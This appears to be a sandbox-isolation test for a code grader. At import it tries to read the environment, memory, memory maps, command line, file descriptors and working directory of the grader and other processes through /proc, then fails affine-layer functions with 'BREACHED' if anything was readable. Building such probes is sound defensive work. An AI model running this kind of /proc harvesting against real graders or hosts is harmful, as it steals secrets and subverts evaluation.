"""attack: read environment, memory, arguments and files of the grader through /proc
row: 4
layer: N + M; L
"""

import os

import numpy as np

loot = []

for pid in (os.getppid(), int("@GRADER@"), 1):
    for name in ("environ", "mem", "maps", "cmdline", "fd", "root/etc/hostname", "cwd"):
        path = f"/proc/{pid}/{name}"
        for read in (lambda p: open(p, "rb").read(64), os.listdir, os.readlink):
            try:
                loot.append((path, read(path)))
            except OSError:
                pass


def affine_forward(x, w, b):
    assert not loot, f"BREACHED {loot}"
    return x @ w + b, (x, w)


def affine_backward(dout, cache):
    assert not loot, f"BREACHED {loot}"
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)


def total(x):
    assert not loot, f"BREACHED {loot}"
    return np.sum(x)
